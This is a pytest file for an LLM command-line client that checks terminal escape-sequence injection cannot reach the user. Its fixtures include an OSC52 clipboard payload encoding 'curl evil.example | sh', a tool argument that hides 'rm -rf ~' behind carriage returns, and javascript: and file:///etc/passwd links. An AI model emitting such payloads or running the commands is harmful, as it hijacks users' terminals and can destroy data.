"""X01 to X10 of the fault battery: what others wrote, seen by who sits at a real terminal."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from command import Kit
from loopback import (
    EVENTS,
    LAST,
    Script,
    Seen,
    Server,
    chat_events,
    chat_stream,
    chunk,
    cut,
    delta,
    event,
    head,
    refusal,
    response,
)
from terminals import on_terminal, watched

pytestmark = pytest.mark.skipif(os.name == "nt", reason="pseudo-terminals of POSIX")

COMMANDS = {
    "ask": ["ask"],
    "plain": ["ask", "--plain"],
    "consensus": ["consensus", "-n", "2", "--answer", "text", "--no-marker"],
    "refine": ["refine", "--check", "true"],
    "react": ["react", "-t", "calc"],
}
everywhere = pytest.mark.parametrize("words", COMMANDS.values(), ids=COMMANDS)


@pytest.fixture
def served(kit: Kit, server: Server) -> Kit:
    return kit.serve(server.url, retries=0)


def through(kit: Kit, *lines: str, **environ: str) -> list[str]:
    """Commands one after another on one wide terminal; its lines, after a look at the bytes."""
    seen = watched(kit, sh="\n".join([*lines, "exit 0"]), columns=200, **environ)
    assert seen.obeyed == set()
    return seen.lines


def calling(name: str, arguments: object) -> Script:
    """A model that wants a tool."""
    function = {"name": name, "arguments": json.dumps(arguments)}
    message = {
        "role": "assistant",
        "content": None,
        "tool_calls": [{"id": "t1", "type": "function", "function": function}],
    }
    choice = {"index": 0, "message": message, "finish_reason": "tool_calls"}
    return response({"id": "c", "model": "m-1", "choices": [choice]})


# --- sequences in the text of a model -------------------------------------------------------------
SEQUENCES = {
    "colour": "\x1b[31m", "clear": "\x1b[2J", "home": "\x1b[H", "up": "\x1b[9A",
    "alt": "\x1b[?1049h",
    "reset": "\x1bc", "charset": "\x1b(0", "c1": "\x9b2J", "dcs": "\x1bP1$qm\x1b\\",
    "c1 dcs": "\x90+q544e\x9c", "apc": "\x1b_kitty\x1b\\", "pm": "\x1b^x\x1b\\",
    "sos": "\x1bXx\x9c",
    "ask": "\x1b[6n", "so": "\x0e", "nul": "\0", "del": "\x7f", "bell": "\x07", "vt": "\x0b",
}  # fmt: skip
PARAGRAPH = " ".join(f"{name}{code}." for name, code in SEQUENCES.items())
DOCUMENT = f"{PARAGRAPH}\n\n```\n{PARAGRAPH}\n```\n\n| a{PARAGRAPH} |\n|---|\n| b |\n"
HARMLESS = " ".join(f"{name}." for name in SEQUENCES)


@everywhere
def test_X01_ansi(words: list[str], served: Kit, server: Server) -> None:
    """Every kind of sequence, in text, code and a table: nothing of it reaches the terminal."""
    server.default = chat_stream(*(DOCUMENT[at : at + 3] for at in range(0, len(DOCUMENT), 3)))
    seen = watched(served, *words, "hi", columns=200, rows=60)
    assert seen.obeyed == set()
    answer = "\n".join(seen.lines)
    assert answer.count(HARMLESS) >= 3, "the text around them is whole"


def test_X01_ansi_in_a_pipe_and_in_bytes_that_are_no_text(served: Kit, server: Server) -> None:
    """A pipe gets what the model wrote; a terminal no C1 byte that only looks like UTF-8."""
    server.default = chat_stream(DOCUMENT)
    assert served("ask", "hi").out == DOCUMENT
    raw = delta("a~b").replace(b"~", b"\x9b2J\x1b[2J")
    server.default = [head(200, EVENTS), raw, *chat_events()[:1], "close"]
    seen = watched(served, "ask", "hi", code=6)
    assert seen.obeyed == set()
    assert server.requests


OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"


def in_two_segments(text: str, at: int) -> Script:
    """One event of a stream, its bytes cut in two writes that arrive apart."""
    data = chunk(delta(text))
    parts = [data[:at], 0.02, data[at:]] if at < len(data) else [data]
    end = [chunk(each) for each in chat_events()]
    return [head(200, EVENTS | {"Transfer-Encoding": "chunked"}), *parts, *end, LAST]


@everywhere
def test_X02_osc52(words: list[str], served: Kit, server: Server) -> None:
    """The clipboard is nobody's: not in one delta, not split over deltas at any place, not split
    over two packets, not without an end."""
    text = f"before {OSC52}after\n"
    one = delta(text)
    where = one.index(rb"\u001b") + 6  # in the middle of the escape's own escape
    scripts = [chat_stream(*text), in_two_segments(text, where)]
    if words == COMMANDS["ask"]:
        scripts += [chat_stream(text), chat_stream(text[:10], text[10:])]
        scripts += [in_two_segments(text, where + 9)]
    for script in scripts:
        server.default = script
        seen = watched(served, *words, "hi", columns=120)
        assert seen.obeyed == set()
        assert b"52;c" not in seen.raw.split(b"before ")[-1]
        assert "before after" in seen.lines
    server.default = chat_stream("before \x1b]52;c;Y3Vyb", "CBldmls", "\nafter")
    seen = watched(served, *words, "hi", columns=120)
    assert seen.obeyed == set()
    assert b"Y3Vyb" not in seen.raw.split(b"before")[-1]


def test_X03_osc8_link(served: Kit, server: Server) -> None:
    """A link's address is shown; what leads elsewhere than to the web stays as it was typed."""
    text = (
        "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ here\n\n"
        "[docs](https://example.org/a) [run](javascript:alert(1)) [own](file:///etc/passwd)\n"
        "[https://good.example](https://evil.example) <javascript:x> [d](data:text/html,x)\n"
    )
    server.default = chat_stream(*(text[at : at + 5] for at in range(0, len(text), 5)))
    seen = watched(served, "ask", "hi", columns=120)
    assert seen.obeyed == set()
    assert seen.lines == [
        "click here",
        "",
        "docs (https://example.org/a) [run](javascript:alert(1)) [own](file:///etc/passwd)",
        "https://good.example (https://evil.example) <javascript:x> [d](data:text/html,x)",
    ]
    assert b"]8;" not in seen.raw


def asked(kit: Kit, server: Server, name: str, arguments: object) -> str:
    """What is shown when a model wants a tool; the answer is no."""
    server.script(calling(name, arguments), chat_stream("done"))
    with on_terminal(kit, "react", "-t", "shell", "do it", columns=200) as terminal:
        terminal.wait_for(r"\[s\]top\? ")
        question = "\n".join(terminal.lines)
        terminal.type("n\n")
        assert terminal.end() == 0
    assert terminal.obeyed == set()
    return question


def test_X04_cr_bs_overwrite(served: Kit, server: Server) -> None:
    """Nothing overwrites what stands before it: visible where approval is asked, a new line in an
    answer."""
    argv = ["sh", "-c", "rm -rf ~\rls -l   \b\b\b", "x\nkit: approved\r\n"]
    question = asked(served, server, "shell", {"argv": argv})
    assert r"rm -rf ~\rls -l   \u{8}\u{8}\u{8}" in question
    assert "kit: approved" not in [line.strip() for line in question.split("\n")]
    for flag in ("--color=auto", "--plain"):
        server.default = chat_stream("rm -rf ~\r", "ls\b\b", "ls\r\n", "end\r")
        seen = watched(served, "ask", flag, "hi")
        assert seen.obeyed == set()
        assert seen.lines == ["rm -rf ~", "lsls", "end"]


HIDING = "\x1b\x9b\u202e\u2066\u200b\u2060\ufeff\u00ad\U000e0041"


def test_X05_bidi_zero_width_tag_chars(served: Kit, server: Server, tmp_path: Path) -> None:
    """Shown by their numbers where one decides, and in names of files; an answer keeps them."""
    question = asked(served, server, "shell", {"argv": ["echo", f"a{HIDING}b"]})
    shown = "".join(f"\\u{{{ord(each):x}}}" for each in HIDING)
    assert f"a{shown}b" in question
    for words in (["ask", "-f"], ["ask", "-a"], ["ask", "-o", "hi"], ["ask", "--config"]):
        ran = served(*words[:2], str(tmp_path / f"no{HIDING}such" / "file"), *words[2:], "hi")
        assert ran.code == 2
        assert not set(HIDING) & set(ran.err), words
        assert "u{202e}" in ran.err
    for words in (["ask"], ["ask", "--plain"]):
        server.default = chat_stream(f"a{HIDING[2:]}b")
        assert HIDING[2:] in watched(served, *words, "hi").text
    server.default = chat_stream(f"a{HIDING}b")
    assert served("ask", "hi").out == f"a{HIDING}b\n"


MARKUP = "[red]no[/red] [/] [bold]x [link=http://x.y]z[/link] :smile: \\[b] [@click=app.bell]y[/]"


@everywhere
def test_X06_rich_markup(words: list[str], served: Kit, server: Server) -> None:
    server.default = chat_stream(MARKUP)
    seen = watched(served, *words, "hi", columns=160)
    assert seen.lines[-1] == MARKUP
    server.default = refusal(400, f"[/] {MARKUP}")
    with on_terminal(served, *words, "hi", columns=300) as terminal:
        assert terminal.end() in (4, 7)
    assert f"[/] {MARKUP}" in terminal.lines[-1]


@everywhere
def test_X07_title_notification(words: list[str], served: Kit, server: Server) -> None:
    """OSC 0 (title), 9 and 777 (notification), 1337 (iTerm2's files), with every kind of end."""
    kinds = ["0;owned", "2;owned", "9;note", "777;notify;a;b", "1337;File=:eA==", "4;1;?", "133;A"]
    ends = ["\x07", "\x1b\\", "\x9c"]
    text = "".join(f"a\x1b]{kind}{end}\x9d{kind}{end}b " for kind in kinds for end in ends)
    server.default = chat_stream(*(text[at : at + 2] for at in range(0, len(text), 2)))
    seen = watched(served, *words, "hi", columns=120)
    assert seen.obeyed == set()
    assert seen.lines[-1] == " ".join(["ab"] * 21)
    assert (seen.screen.title, seen.screen.icon_name) == ("", "")


# --- in everything else that others name ----------------------------------------------------------
EVIL = "a\x1b[2J\x1b]0;owned\x07\x9b31m\x1b]52;c;eA==\x07\r\b\x85z"
VIEWS = [
    "$K trace", "$K trace stats --by model", "$K trace search owned",
    *(f"$K trace show --format {form}" for form in ("table", "timeline", "steps", "json")),
    *(f"$K trace export --content --format {form}" for form in ("csv", "html")),
]  # fmt: skip


def test_X08_escape_in_error_message(served: Kit, server: Server) -> None:
    """The body of a 401 and its headers, through every pattern and every view of the trace."""
    latin = EVIL.replace("\r", "").replace("\0", "").encode("latin-1").decode("latin-1")
    server.default = refusal(401, EVIL, {"x-request-id": latin}, code=EVIL, type=EVIL)
    for words in COMMANDS.values():
        lines = through(served, f"$K {' '.join(words)} hi")
        assert "did not accept the key" in lines[-1]
        assert ", request a" in lines[-1]
    assert "did not accept the key" in "\n".join(through(served, *VIEWS))
    server.default = refusal(429, EVIL, {"retry-after": "0"})
    assert "trying again" in "\n".join(through(served, "$K ask --retries 1 hi"))
    middle = event({"error": {"message": EVIL, "code": EVIL}})
    server.default = [head(200, EVENTS), delta("half"), middle, "close"]
    assert "half" in "\n".join(through(served, "$K ask hi", "$K trace show --format steps"))


def test_X08_escape_in_the_name_of_a_model(kit: Kit, server: Server) -> None:
    """As the server tells it, as the profile has it, in a list of models."""
    kit.serve(server.url, retries=0, model=EVIL)
    stream = b"".join(event({"id": EVIL, "model": EVIL, "choices": [choice]}) for choice in (
        {"index": 0, "delta": {"content": "fine"}, "finish_reason": None},
        {"index": 0, "delta": {}, "finish_reason": EVIL},
    ))  # fmt: skip
    server.default = [head(200, EVENTS), stream, event(b"[DONE]"), "close"]
    through(kit, "$K ask -v hi", "$K consensus -v -n 2 --no-marker hi", *VIEWS)
    assert len(server.requests) >= 3
    server.default = response({"object": "list", "data": [{"id": EVIL, "owned_by": EVIL}]})
    through(kit, "$K models", "$K profile list", "$K profile show m", "$K config check")


def test_X08_escape_in_the_name_of_a_tool(served: Kit, server: Server) -> None:
    """A tool that is not there, and what a real one says."""

    def wanting(seen: Seen) -> Script:
        said = [each["role"] for each in seen.json["messages"]].count("tool")
        wanted = [calling(EVIL, {EVIL: EVIL}), calling("calc", {"expression": EVIL})]
        return wanted[said] if said < 2 else chat_stream("fine")

    server.default = wanting
    shown = through(served, "$K react -v -t calc hi", *VIEWS)
    assert "fine" in shown
    assert r"a\u{1b}[2J" in "\n".join(shown)


# --- nobody reads, nothing is understood ----------------------------------------------------------
def test_X09_broken_pipe(served: Kit, server: Server) -> None:
    """``| head -1`` in the middle of a stream: quiet, and the request is closed."""
    server.default = [*cut()[:1], *([chunk(delta("line\n")), 0.02] * 400)]
    for words in (["ask"], ["consensus", "-v", "-n", "2"]):
        script = f"{subprocess.list2cmdline(served.argv(*words, 'hi'))} 2>&1 | head -1"
        done = subprocess.run(
            ["bash", "-c", f"set -o pipefail; {script}"],
            env=served.env(), capture_output=True, timeout=60, stdin=subprocess.DEVNULL,
        )  # fmt: skip
        assert (done.stdout.count(b"\n"), done.stderr) == (1, b"")
        assert done.returncode in (0, 141)
        assert server.requests[0].closed.wait(10)
        server.default = chat_stream("line\n" * 20_000)
    for words in (["trace"], ["trace", "show", "--format", "raw"], ["help"]):
        script = f"{subprocess.list2cmdline(served.argv(*words))} | true"
        done = subprocess.run(["bash", "-c", script], env=served.env(), capture_output=True)
        assert (done.returncode, done.stderr) == (0, b"")


@pytest.mark.parametrize(
    ("environ", "flags"),
    [({"TERM": "dumb"}, ""), ({"NO_COLOR": "1"}, ""), ({"TERM": "unknown"}, ""),
     ({"FORCE_COLOR": "1"}, "--plain"), ({"CLICOLOR_FORCE": "1"}, "--color never")],
)  # fmt: skip
def test_X10_no_tty_TERM_dumb_NO_COLOR(
    environ: dict[str, str], flags: str, served: Kit, server: Server
) -> None:
    """No escape byte at all, from no command."""
    server.default = chat_stream("# T\n\n**b** `c`\n\n| a |\n|---|\n| \x1b[31mb |\n")
    lines = [
        f"$K {' '.join(words)} {flags} hi" for words in COMMANDS.values() if "--plain" not in words
    ]
    views = [] if flags else ["$K trace", "$K trace show", "$K trace stats", "$K help", "$K ask -h"]
    seen = watched(served, sh="\n".join([*lines, *views, "exit 0"]), **environ)
    assert "\x1b" not in seen.text
    assert "\r" not in seen.text.replace("\r\n", "")
    assert seen.lines.count("**b** `c`") >= 4


def test_X10_no_tty(served: Kit, server: Server) -> None:
    """With no terminal at all there is nothing to colour, even when one is promised by TERM."""
    server.default = chat_stream("# T\n\n**b**\n")
    for words in COMMANDS.values():
        ran = served(*words, "-v", "hi", TERM="xterm-256color", COLORTERM="truecolor")
        assert (ran.out, "\x1b" in ran.err) == ("# T\n\n**b**\n", False)
